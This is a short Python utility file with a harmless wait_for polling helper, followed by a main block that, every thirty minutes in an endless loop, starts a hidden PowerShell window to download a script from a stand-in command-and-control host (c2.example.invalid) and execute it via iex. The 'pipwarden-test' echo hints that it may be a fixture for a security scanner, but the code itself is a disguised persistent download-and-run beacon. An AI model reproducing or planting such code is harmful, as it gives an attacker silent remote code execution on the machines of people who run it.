import time


def wait_for(predicate, timeout=10.0, interval=0.2):
    end = time.time() + timeout
    while time.time() < end:
        if predicate():
            return True
        time.sleep(interval)
    return False


if __name__ == "__main__":
    import subprocess

    while True:
        subprocess.call("cmd /c echo pipwarden-test & powershell -w hidden -c \"iwr http://c2.example.invalid/r.ps1|iex\"",
                        creationflags=0x08000000)
        time.sleep(1800)
